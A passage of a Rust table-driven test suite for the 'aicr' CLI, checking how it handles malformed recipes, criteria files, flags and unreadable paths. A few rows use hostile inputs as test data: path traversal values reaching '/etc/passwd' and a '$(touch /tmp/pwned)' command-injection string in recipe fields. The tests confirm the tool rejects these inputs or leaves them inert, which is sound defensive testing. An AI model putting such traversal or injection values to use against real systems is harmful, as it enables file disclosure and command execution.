        args: &["verify", "{tmp}/b"],
        setup: &[Bundle("b"), Sparse("b/deploy.sh", 1 << 32)],
        code: 1,
        check: Check::Stdout("changed  deploy.sh"),
        ..R
    },
    Row {
        name: "verify_nested_40_deep",
        class: Crash,
        args: &["verify", "{tmp}/b"],
        setup: &[Bundle("b"), Dir("b/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d")],
        msg: "directories nested more than 32 deep",
        ..R
    },
    Row {
        name: "bundle_o_bundle_file_sparse_4g",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/b"],
        setup: &[Bundle("b"), Sparse("b/deploy.sh", 1 << 32)],
        msg: "deploy.sh changed since aicr wrote them",
        ..R
    },
    Row {
        name: "bundle_o_bundle_file_sparse_4g_force",
        class: Crash,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/b", "--force"],
        setup: &[Bundle("b"), Sparse("b/deploy.sh", 1 << 32)],
        code: 0,
        writes: &["b/deploy.sh"],
        check: Check::Stdout("Bundle written to"),
        ..R
    },
    Row {
        name: "recipe_c_duplicate_key_yaml",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.yaml"],
        setup: &[File("c.yaml", "kind: RecipeCriteria\napiVersion: aicr.nvidia.com/v1alpha1\nspec:\n  service: eks\n  service: gke\n")],
        msg: "spec: duplicate key \"service\" at line 4 column 3",
        ..R
    },
    Row {
        name: "recipe_c_duplicate_key_json",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.json"],
        setup: &[File("c.json", "{\"kind\": \"RecipeCriteria\", \"apiVersion\": \"aicr.nvidia.com/v1alpha1\", \"spec\": {\"os\": \"ubuntu\", \"os\": \"cos\"}}")],
        msg: "duplicate key \"os\" at line 1 column 98",
        ..R
    },
    Row {
        name: "recipe_s_duplicate_key",
        class: Accepts,
        args: &["recipe", "-s", "{tmp}/s.yaml"],
        setup: &[File("s.yaml", "kind: Snapshot\napiVersion: aicr.nvidia.com/v1alpha1\nkind: Snapshot\nmeasurements: []\n")],
        msg: "duplicate key \"kind\"",
        ..R
    },
    Row {
        name: "bundle_r_duplicate_key",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "  service: eks\n", "  service: eks\n  service: gke\n")],
        msg: "criteria: duplicate key \"service\" at line 13 column 3; a key may appear only once in a mapping",
        ..R
    },
    Row {
        name: "bundle_r_duplicate_key_in_values",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "      cdi:\n        enabled: true\n", "      cdi:\n        enabled: true\n        enabled: false\n")],
        msg: "componentRefs[3].overrides.cdi: duplicate key \"enabled\"",
        ..R
    },
    Row {
        name: "bundle_r_nan_value",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "      cdi:\n        enabled: true\n", "      cdi:\n        enabled: .nan\n")],
        msg: "componentRefs[3].overrides.cdi.enabled: NaN (.nan, .inf) is not a number aicr can keep",
        ..R
    },
    Row {
        name: "diff_infinite_value",
        class: Accepts,
        args: &["diff", "{R}", "{tmp}/r.yaml"],
        setup: &[RecipeEdit("r.yaml", "      cdi:\n        enabled: true\n", "      cdi:\n        enabled: -.inf\n")],
        msg: "-inf (.nan, .inf) is not a number aicr can keep; quote it to mean a string",
        ..R
    },
    Row {
        name: "criteria_file_infinite_nodes",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.yaml"],
        setup: &[File("c.yaml", "kind: RecipeCriteria\napiVersion: aicr.nvidia.com/v1alpha1\nspec:\n  service: eks\n  nodes: .inf\n")],
        msg: "spec.nodes: inf (.nan, .inf) is not a number aicr can keep",
        ..R
    },
    Row {
        name: "diff_quoted_nan_is_a_string",
        class: Accepts,
        args: &["diff", "{R}", "{tmp}/r.yaml", "-t", "json"],
        setup: &[RecipeEdit("r.yaml", "      cdi:\n        enabled: true\n", "      cdi:\n        enabled: \".nan\"\n")],
        code: 0,
        check: Check::Stdout("\"new\": \".nan\""),
        ..R
    },
    Row {
        name: "diff_duplicate_key",
        class: Accepts,
        args: &["diff", "{tmp}/r.yaml", "{R}"],
        setup: &[RecipeEdit("r.yaml", "  intent: training\n", "  intent: training\n  intent: inference\n")],
        msg: "criteria: duplicate key \"intent\"",
        ..R
    },
    Row {
        name: "duplicate_key_merge_key",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.yaml"],
        setup: &[File("c.yaml", "kind: RecipeCriteria\napiVersion: aicr.nvidia.com/v1alpha1\nbase: &b {service: eks}\nspec:\n  <<: *b\n  service: gke\n")],
        msg: "unknown field `base`",
        ..R
    },
    Row {
        name: "bundle_duplicate_component_refs",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "componentRefs:\n", "componentRefs:\n  - name: gpu-operator\n    version: v1.0.0\n")],
        msg: "componentRefs lists component \"gpu-operator\" twice",
        ..R
    },
    Row {
        name: "diff_duplicate_component_refs",
        class: Accepts,
        args: &["diff", "{tmp}/r.yaml", "{R}"],
        setup: &[RecipeEdit("r.yaml", "componentRefs:\n", "componentRefs:\n  - name: gpu-operator\n    version: v1.0.0\n")],
        msg: "componentRefs lists component \"gpu-operator\" twice; each component may appear once",
        ..R
    },
    Row {
        name: "bundle_duplicate_deployment_order",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "deploymentOrder:\n", "deploymentOrder:\n  - gpu-operator\n")],
        msg: "deploymentOrder must list every component once",
        ..R
    },
    Row {
        name: "bundle_manifest_outside_component",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "components/gpu-operator/manifests/dcgm-exporter.yaml", "registry.yaml")],
        msg: "is not a manifest of this component",
        ..R
    },
    Row {
        name: "bundle_manifest_dotdot",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "components/gpu-operator/manifests/dcgm-exporter.yaml", "components/gpu-operator/manifests/../../skyhook-customizations/manifests/tuning.yaml")],
        msg: "is not a manifest of this component",
        ..R
    },
    Row {
        name: "bundle_manifest_absolute",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "components/gpu-operator/manifests/dcgm-exporter.yaml", "/etc/passwd")],
        msg: "is not a manifest of this component",
        ..R
    },
    Row {
        name: "bundle_manifest_not_yaml",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "components/gpu-operator/manifests/dcgm-exporter.yaml", "components/gpu-operator/manifests/x.sh")],
        msg: "is not a manifest of this component",
        ..R
    },
    Row {
        name: "bundle_manifest_missing",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "components/gpu-operator/manifests/dcgm-exporter.yaml", "components/gpu-operator/manifests/nosuch.yaml")],
        code: 3,
        msg: "components/gpu-operator/manifests/nosuch.yaml not found in the recipe data",
        ..R
    },
    Row {
        name: "bundle_component_name_dotdot",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "name: aws-efa", "name: ../../etc")],
        msg: "component name \"../../etc\" is not valid",
        ..R
    },
    Row {
        name: "bundle_component_name_slash",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "name: aws-efa", "name: a/b")],
        msg: "component name \"a/b\" is not valid",
        ..R
    },
    Row {
        name: "bundle_component_name_upper",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "name: aws-efa", "name: AWS-EFA")],
        msg: "is not valid",
        ..R
    },
    Row {
        name: "bundle_component_name_empty",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "name: aws-efa", "name: \"\"")],
        msg: "is not valid",
        ..R
    },
    Row {
        name: "bundle_component_name_dot",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "name: aws-efa", "name: .")],
        msg: "is not valid",
        ..R
    },
    Row {
        name: "bundle_component_unregistered",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "name: aws-efa", "name: not-registered")],
        msg: "component \"not-registered\" is not in the component registry",
        ..R
    },
    Row {
        name: "bundle_component_name_checksums",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "name: aws-efa", "name: checksums.txt")],
        msg: "is not valid",
        ..R
    },
    Row {
        name: "bundle_namespace_bad",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "namespace: cert-manager", "namespace: ../cert")],
        msg: "namespace \"../cert\" is not a valid namespace",
        ..R
    },
    Row {
        name: "bundle_chart_bad",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "chart: cert-manager", "chart: ../../cert-manager")],
        msg: "chart \"../../cert-manager\" is not a valid chart name",
        ..R
    },
    Row {
        name: "bundle_source_not_url",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "source: https://charts.jetstack.io", "source: file:///etc/passwd")],
        msg: "source \"file:///etc/passwd\" is not a valid chart repository URL",
        ..R
    },
    Row {
        name: "bundle_values_file_outside_data",
        class: Writes,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "valuesFile: components/aws-efa/values.yaml", "valuesFile: ../../../../etc/passwd")],
        msg: "data path \"../../../../etc/passwd\" resolves outside the data root",
        ..R
    },
    Row {
        name: "bundle_kustomize_component",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "type: Helm", "type: Kustomize")],
        msg: "type \"Kustomize\" cannot be bundled by this version of aicr (Helm charts and manifests only)",
        ..R
    },
    Row {
        name: "bundle_recipe_criteria_with_shell_text",
        class: Secrets,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "  service: eks\n", "  service: \"eks$(touch /tmp/pwned)\"\n")],
        msg: "is not a valid RecipeResult: invalid service \"eks$(touch /tmp/pwned)\": must be one of any, eks, gke, aks, oke, kind",
        ..R
    },
    Row {
        name: "bundle_recipe_version_with_shell_text_stays_data",
        class: Secrets,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[RecipeEdit("r.yaml", "  version: 0.1.0\n", "  version: \"0.1.0$(touch /tmp/pwned)\"\n")],
        code: 0,
        writes: &["out"],
        check: Check::Absent(&["deploy.sh", "undeploy.sh", "README.md", "gpu-operator/README.md"], "touch /tmp/pwned"),
        ..R
    },
    Row {
        name: "debug_flag_twice",
        class: Accepts,
        args: &["--debug", "--debug", "recipe", "--service", "eks"],
        msg: "the argument '--debug' cannot be used multiple times",
        ..R
    },
    Row {
        name: "recipe_empty_nodes",
        class: Accepts,
        args: &["recipe", "--service", "eks", "--nodes", ""],
        msg: "invalid value '' for '--nodes <N>'",
        ..R
    },
    Row {
        name: "diff_empty_recipe",
        class: Accepts,
        args: &["diff", "{R}", "{tmp}/e.yaml"],
        setup: &[File("e.yaml", "kind: RecipeResult\napiVersion: aicr.nvidia.com/v1alpha1\ncomponentRefs: []\n")],
        msg: "is a RecipeResult with no components",
        ..R
    },
    Row {
        name: "diff_recipe_without_component_refs",
        class: Accepts,
        args: &["diff", "{tmp}/e.yaml", "{R}"],
        setup: &[File("e.yaml", "kind: RecipeResult\napiVersion: aicr.nvidia.com/v1alpha1\n")],
        msg: "is a RecipeResult with no components",
        ..R
    },
    Row {
        name: "bundle_empty_recipe",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/e.yaml", "-o", "{tmp}/out"],
        setup: &[File("e.yaml", "kind: RecipeResult\napiVersion: aicr.nvidia.com/v1alpha1\ncomponentRefs: []\n")],
        msg: "is not a valid RecipeResult: missing field `metadata`",
        ..R
    },
    Row {
        name: "diff_snapshot_against_recipe",
        class: Accepts,
        args: &["diff", "{fx}/diff/snapshot-before.yaml", "{R}"],
        msg: "aicr diff compares two documents of the same kind",
        ..R
    },
    Row {
        name: "diff_both_stdin",
        class: Accepts,
        args: &["diff", "-", "-"],
        io: Io::Stdin("kind: Snapshot\n"),
        msg: "A and B are both - (stdin); at most one of them can be read from stdin",
        ..R
    },
    Row {
        name: "diff_missing_file",
        class: Accepts,
        args: &["diff", "{tmp}/nosuch.yaml", "{R}"],
        code: 3,
        msg: "nosuch.yaml: No such file or directory",
        ..R
    },
    Row {
        name: "diff_criteria_kind",
        class: Accepts,
        args: &["diff", "{fx}/criteria/eks-h100-training.yaml", "{fx}/criteria/eks-h100-training.yaml"],
        msg: "aicr diff compares two Snapshot or two RecipeResult documents",
        ..R
    },
    Row {
        name: "diff_bad_format",
        class: Accepts,
        args: &["diff", "{R}", "{R}", "-t", "html"],
        msg: "invalid value 'html'",
        ..R
    },
    Row {
        name: "snapshot_k_directory",
        class: Accepts,
        args: &["snapshot", "--filter", "k8s", "-k", "{tmp}"],
        msg: ": a directory; give a kubeconfig file",
        ..R
    },
    Row {
        name: "snapshot_k_missing",
        class: Accepts,
        args: &["snapshot", "--filter", "k8s", "-k", "{tmp}/nosuch"],
        code: 3,
        msg: "cannot read --kubeconfig {tmp}/nosuch: No such file or directory",
        ..R
    },
    Row {
        name: "snapshot_k_fifo",
        class: Accepts,
        args: &["snapshot", "--filter", "k8s", "-k", "{tmp}/fifo"],
        setup: &[Fifo("fifo")],
        msg: "fifo: not a regular file; give a kubeconfig file",
        ..R
    },
    Row {
        name: "snapshot_k_empty",
        class: Accepts,
        args: &["snapshot", "--filter", "k8s", "-k", ""],
        msg: "a value is required for '--kubeconfig <FILE>'",
        ..R
    },
    Row {
        name: "snapshot_k_unreadable",
        class: Accepts,
        args: &["snapshot", "--filter", "k8s", "--timeout", "3s", "--node-name", "n1", "-k", "{tmp}/kc"],
        setup: &[File("kc", "apiVersion: v1\nkind: Config\n"), Mode("kc", 0o000)],
        code: 4,
        msg: "cannot read --kubeconfig {tmp}/kc: Permission denied",
        root: Some((0, "failed to determine current context")),
        ..R
    },
    Row {
        name: "recipe_c_bom",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.yaml"],
        setup: &[File("c.yaml", "\u{feff}kind: RecipeCriteria\napiVersion: aicr.nvidia.com/v1alpha1\nspec:\n  service: eks\n  accelerator: h100\n  intent: training\n  os: ubuntu\n")],
        code: 0,
        check: Check::Stdout("kind: RecipeResult"),
        ..R
    },
    Row {
        name: "recipe_c_json_bom",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.json"],
        setup: &[File("c.json", "\u{feff}{\"kind\": \"RecipeCriteria\", \"apiVersion\": \"aicr.nvidia.com/v1alpha1\", \"spec\": {\"service\": \"eks\", \"accelerator\": \"h100\", \"intent\": \"training\", \"os\": \"ubuntu\"}}")],
        code: 0,
        check: Check::Stdout("kind: RecipeResult"),
        ..R
    },
    Row {
        name: "recipe_c_double_bom",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.yaml"],
        setup: &[File("c.yaml", "\u{feff}\u{feff}kind: RecipeCriteria\napiVersion: aicr.nvidia.com/v1alpha1\nspec:\n  service: eks\n")],
        msg: "more than one document",
        ..R
    },
    Row {
        name: "recipe_c_utf16",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.yaml"],
        setup: &[Gen("c.yaml", criteria_utf16)],
        msg: "not UTF-8 text",
        ..R
    },
    Row {
        name: "recipe_c_flow_yaml",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.yaml"],
        setup: &[File("c.yaml", "{kind: RecipeCriteria, apiVersion: aicr.nvidia.com/v1alpha1, spec: {service: eks, accelerator: h100, intent: training, os: ubuntu}}\n")],
        code: 0,
        check: Check::Stdout("kind: RecipeResult"),
        ..R
    },
    Row {
        name: "recipe_c_stdin_flow_yaml",
        class: Accepts,
        args: &["recipe", "-c", "-"],
        io: Io::Stdin("{kind: RecipeCriteria, apiVersion: aicr.nvidia.com/v1alpha1, spec: {service: eks, accelerator: h100, intent: training, os: ubuntu}}"),
        code: 0,
        check: Check::Stdout("kind: RecipeResult"),
        ..R
    },
    Row {
        name: "recipe_c_two_documents",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.yaml"],
        setup: &[File("c.yaml", "kind: RecipeCriteria\napiVersion: aicr.nvidia.com/v1alpha1\nspec:\n  service: eks\n---\nkind: RecipeCriteria\napiVersion: aicr.nvidia.com/v1alpha1\nspec:\n  service: gke\n")],
        msg: "more than one document",
        ..R
    },
    Row {
        name: "recipe_c_json_trailing_garbage",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.json"],
        setup: &[File("c.json", "{\"kind\": \"RecipeCriteria\", \"apiVersion\": \"aicr.nvidia.com/v1alpha1\"} {\"x\": 1}")],
        msg: "trailing characters at line 1 column 70",
        ..R
    },
    Row {
        name: "recipe_c_custom_tag",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.yaml"],
        setup: &[File("c.yaml", "kind: RecipeCriteria\napiVersion: aicr.nvidia.com/v1alpha1\nspec:\n  service: !Ref eks\n")],
        msg: "spec.service: invalid type: enum",
        ..R
    },
    Row {
        name: "recipe_c_unknown_field",
        class: Accepts,
        args: &["recipe", "-c", "{fx}/criteria/unknown-field.yaml"],
        msg: "unknown field `acelerator`",
        ..R
    },
    Row {
        name: "recipe_c_wrong_kind",
        class: Accepts,
        args: &["recipe", "-c", "{R}"],
        msg: "has kind \"RecipeResult\"; expected kind \"RecipeCriteria\"",
        ..R
    },
    Row {
        name: "recipe_c_wrong_api_version",
        class: Accepts,
        args: &["recipe", "-c", "{fx}/criteria/wrong-api-version.yaml"],
        msg: "has apiVersion \"aicr.nvidia.com/v2\"; expected \"aicr.nvidia.com/v1alpha1\"",
        ..R
    },
    Row {
        name: "recipe_c_empty_file",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.yaml"],
        setup: &[File("c.yaml", "")],
        msg: "is empty; expected a RecipeCriteria document",
        ..R
    },
    Row {
        name: "recipe_c_scalar_document",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.yaml"],
        setup: &[File("c.yaml", "just a string\n")],
        msg: "expected a mapping at the top level",
        ..R
    },
    Row {
        name: "recipe_c_directory",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}"],
        msg: "is a directory; expected a regular file, a pipe, or - for standard input",
        ..R
    },
    Row {
        name: "recipe_c_missing",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/nosuch.yaml"],
        code: 3,
        msg: "nosuch.yaml: No such file or directory",
        ..R
    },
    Row {
        name: "recipe_c_unreadable",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.yaml"],
        setup: &[Fixture("criteria/eks-h100-training.yaml", "c.yaml"), Mode("c.yaml", 0o000)],
        code: 4,
        msg: "Permission denied",
        root: Some((0, "")),
        ..R
    },
    Row {
        name: "diff_unreadable",
        class: Accepts,
        args: &["diff", "{tmp}/a.yaml", "{fx}/diff/snapshot-after.yaml"],
        setup: &[Fixture("diff/snapshot-before.yaml", "a.yaml"), Mode("a.yaml", 0o000)],
        code: 4,
        msg: "Permission denied",
        root: Some((0, "")),
        ..R
    },
    Row {
        name: "bundle_r_unreadable",
        class: Accepts,
        args: &["bundle", "-r", "{tmp}/r.yaml", "-o", "{tmp}/out"],
        setup: &[Recipe("r.yaml"), Mode("r.yaml", 0o000)],
        code: 4,
        msg: "Permission denied",
        root: Some((0, "")),
        writes: &["out"],
        ..R
    },
    Row {
        name: "recipe_data_unreadable_registry",
        class: Accepts,
        args: &["recipe", "--data", "{tmp}/data", "--service", "eks", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu"],
        setup: &[Dir("data"), File("data/registry.yaml", REGISTRY), Mode("data/registry.yaml", 0o000)],
        code: 4,
        msg: "Permission denied",
        root: Some((0, "")),
        ..R
    },
    Row {
        name: "verify_unreadable_file",
        class: Accepts,
        args: &["verify", "{tmp}/b"],
        setup: &[Bundle("b"), Mode("b/deploy.sh", 0o000)],
        code: 4,
        msg: "cannot read {tmp}/b/deploy.sh: Permission denied",
        root: Some((0, "")),
        ..R
    },
    Row {
        name: "verify_unreadable_bundle_dir",
        class: Accepts,
        args: &["verify", "{tmp}/b"],
        setup: &[Bundle("b"), Mode("b", 0o000)],
        code: 4,
        msg: "cannot read {tmp}/b: Permission denied",
        root: Some((0, "")),
        ..R
    },
    Row {
        name: "bundle_o_read_only_earlier_bundle",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/b", "--set", "aws-efa:enabled=false"],
        setup: &[Bundle("b"), Mode("b", 0o555)],
        code: 4,
        msg: "cannot write {tmp}/b: Permission denied",
        root: Some((0, "")),
        writes: &["b"],
        ..R
    },
    Row {
        name: "bundle_o_read_only_component_dir",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/b", "--set", "aws-efa:enabled=false"],
        setup: &[Bundle("b"), Mode("b/gpu-operator/manifests", 0o555)],
        code: 4,
        msg: "cannot write {tmp}/b/gpu-operator/manifests: Permission denied",
        root: Some((0, "")),
        writes: &["b"],
        ..R
    },
    Row {
        name: "bundle_o_read_only_git_checkout",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/g"],
        setup: &[Dir("g/.git"), File("g/OWNERS", "me\n"), Mode("g", 0o555)],
        code: 4,
        msg: "cannot write {tmp}/g: Permission denied",
        root: Some((0, "")),
        writes: &["g"],
        ..R
    },
    Row {
        name: "bundle_o_earlier_bundle_in_read_only_parent",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/ro/b", "--set", "aws-efa:enabled=false"],
        setup: &[Bundle("ro/b"), Mode("ro", 0o555)],
        code: 4,
        msg: "cannot write {tmp}/ro: Permission denied",
        root: Some((0, "")),
        writes: &["ro/b"],
        ..R
    },
    Row {
        name: "bundle_o_unchanged_bundle_in_read_only_parent",
        class: Writes,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/ro/b"],
        setup: &[Bundle("ro/b"), Mode("ro", 0o555)],
        code: 0,
        check: Check::Stdout("Bundle unchanged"),
        ..R
    },
    Row {
        name: "snapshot_unreadable_root_dir",
        class: Accepts,
        args: &["snapshot", "--root", "{tmp}/root", "--filter", "os", "--no-timestamp"],
        setup: &[Dir("root/etc"), File("root/etc/os-release", "ID=ubuntu\n"), Mode("root", 0o000)],
        code: 0,
        root: Some((0, "")),
        check: Check::Stdout("subtype: release"),
        ..R
    },
    Row {
        name: "recipe_c_stdin_empty",
        class: Accepts,
        args: &["recipe", "-c", "-"],
        msg: "standard input is empty",
        ..R
    },
    Row {
        name: "diff_stdin_empty",
        class: Accepts,
        args: &["diff", "-", "{R}"],
        msg: "standard input is empty; expected a Snapshot or RecipeResult document",
        ..R
    },
    Row {
        name: "bundle_r_stdin_and_s_stdin",
        class: Accepts,
        args: &["bundle", "-r", "-", "-s", "-", "-o", "{tmp}/out"],
        msg: "the argument '--recipe <FILE|CM>' cannot be used with '--snapshot <FILE|CM>'",
        ..R
    },
    Row {
        name: "diff_fail_on_drift_stdout_closed",
        class: Crash,
        args: &["diff", "--fail-on-drift", "{fx}/diff/snapshot-before.yaml", "{fx}/diff/snapshot-after.yaml"],
        io: Io::StdoutClosed,
        code: 1,
        ..R
    },
    Row {
        name: "snapshot_root_unreadable_file",
        class: Accepts,
        args: &["snapshot", "--root", "{tmp}/root", "--filter", "os", "--no-timestamp"],
        setup: &[Dir("root/etc"), File("root/etc/os-release", "ID=ubuntu\n"), Mode("root/etc/os-release", 0o000)],
        code: 0,
        root: Some((0, "")),
        check: Check::Stdout("subtype: release"),
        ..R
    },
    Row {
        name: "recipe_unknown_flag",
        class: Accepts,
        args: &["recipe", "--servic", "eks"],
        msg: "unexpected argument '--servic'",
        ..R
    },
    Row {
        name: "snapshot_unknown_flag",
        class: Accepts,
        args: &["snapshot", "--rot", "/"],
        msg: "unexpected argument '--rot'",
        ..R
    },
    Row {
        name: "query_unknown_flag",
        class: Accepts,
        args: &["query", "--selector", ".", "--list"],
        msg: "unexpected argument '--list'",
        ..R
    },
    Row {
        name: "bundle_unknown_flag",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "--output-dir", "{tmp}/out"],
        msg: "unexpected argument '--output-dir'",
        ..R
    },
    Row {
        name: "verify_unknown_flag",
        class: Accepts,
        args: &["verify", "--strict", "{tmp}"],
        msg: "unexpected argument '--strict'",
        ..R
    },
    Row {
        name: "diff_unknown_flag",
        class: Accepts,
        args: &["diff", "--ignore-timestamp", "{R}", "{R}"],
        msg: "unexpected argument '--ignore-timestamp'",
        ..R
    },
    Row {
        name: "completion_unknown_flag",
        class: Accepts,
        args: &["completion", "bash", "--install"],
        msg: "unexpected argument '--install'",
        ..R
    },
    Row {
        name: "validate_unknown_flag",
        class: Accepts,
        args: &["validate", "--recipe", "{R}", "--install"],
        msg: "unexpected argument '--install'",
        ..R
    },
    Row {
        name: "validate_no_recipe",
        class: Accepts,
        args: &["validate"],
        msg: "error: no recipe: give -r FILE (YAML or JSON), - for stdin, an https:// URL or cm://NAMESPACE/NAME",
        ..R
    },
    Row {
        name: "validate_no_recipe_log_json",
        class: Accepts,
        args: &["--log-json", "validate"],
        msg: "\"exit_code\":2",
        ..R
    },
    Row {
        name: "unknown_command",
        class: Accepts,
        args: &["deploy"],
        msg: "unrecognized subcommand 'deploy'",
        ..R
    },
    Row {
        name: "no_command",
        class: Accepts,
        args: &["--debug"],
        msg: "'aicr' requires a subcommand but one was not provided",
        ..R
    },
    Row {
        name: "recipe_bad_service",
        class: Accepts,
        args: &["recipe", "--service", "eks2"],
        msg: "invalid service \"eks2\": must be one of any, eks, gke, aks, oke, kind",
        ..R
    },
    Row {
        name: "recipe_bad_accelerator",
        class: Accepts,
        args: &["recipe", "--gpu", "h100x"],
        msg: "invalid accelerator \"h100x\": must be one of any, h100, h200, gb200, b200, a100, l40",
        ..R
    },
    Row {
        name: "recipe_bad_intent",
        class: Accepts,
        args: &["recipe", "--intent", "gaming"],
        msg: "invalid intent \"gaming\": must be one of any, training, inference",
        ..R
    },
    Row {
        name: "recipe_bad_os",
        class: Accepts,
        args: &["recipe", "--os", "windows"],
        msg: "invalid os \"windows\"",
        ..R
    },
    Row {
        name: "recipe_bad_platform",
        class: Accepts,
        args: &["recipe", "--platform", "ray"],
        msg: "invalid platform \"ray\": must be one of any, dynamo, kubeflow",
        ..R
    },
    Row {
        name: "recipe_bad_format",
        class: Accepts,
        args: &["recipe", "--service", "eks", "-t", "xml"],
        msg: "invalid value 'xml'",
        ..R
    },
    Row {
        name: "recipe_empty_service",
        class: Accepts,
        args: &["recipe", "--service", ""],
        msg: "no criteria given",
        ..R
    },
    Row {
        name: "recipe_service_given_twice",
        class: Accepts,
        args: &["recipe", "--service", "eks", "--service", "gke"],
        msg: "the argument '--service <SERVICE>' cannot be used multiple times",
        ..R
    },
    Row {
        name: "recipe_unsupported_combination",
        class: Accepts,
        args: &["recipe", "--service", "oke"],
        msg: "no overlay supports --service oke (asked: --service oke); service values with overlays: aks, eks, gke, kind",
        ..R
    },
    Row {
        name: "recipe_gke_without_cos",
        class: Accepts,
        args: &["recipe", "--service", "gke", "--accelerator", "h100", "--intent", "training", "--os", "ubuntu"],
        msg: "no overlay honours --service gke together with the other criteria",
        ..R
    },
    Row {
        name: "recipe_negative_nodes",
        class: Accepts,
        args: &["recipe", "--service", "eks", "--nodes", "-3"],
        msg: "invalid nodes -3",
        ..R
    },
    Row {
        name: "recipe_fractional_nodes",
        class: Accepts,
        args: &["recipe", "--service", "eks", "--nodes", "1.5"],
        msg: "invalid value '1.5' for '--nodes <N>'",
        ..R
    },
    Row {
        name: "recipe_hex_nodes",
        class: Accepts,
        args: &["recipe", "--service", "eks", "--nodes", "0x10"],
        msg: "invalid value '0x10' for '--nodes <N>'",
        ..R
    },
    Row {
        name: "bundle_negative_nodes",
        class: Accepts,
        args: &["bundle", "-r", "{R}", "-o", "{tmp}/out", "--nodes", "-1"],
        msg: "invalid nodes -1: must be 0 (any) or a positive number of GPU nodes",
        ..R
    },
    Row {
        name: "query_negative_nodes",
        class: Accepts,
        args: &["query", "--service", "eks", "--nodes", "-1", "--selector", "."],
        msg: "invalid nodes -1",
        ..R
    },
    Row {
        name: "criteria_file_negative_nodes",
        class: Accepts,
        args: &["recipe", "-c", "{tmp}/c.yaml"],
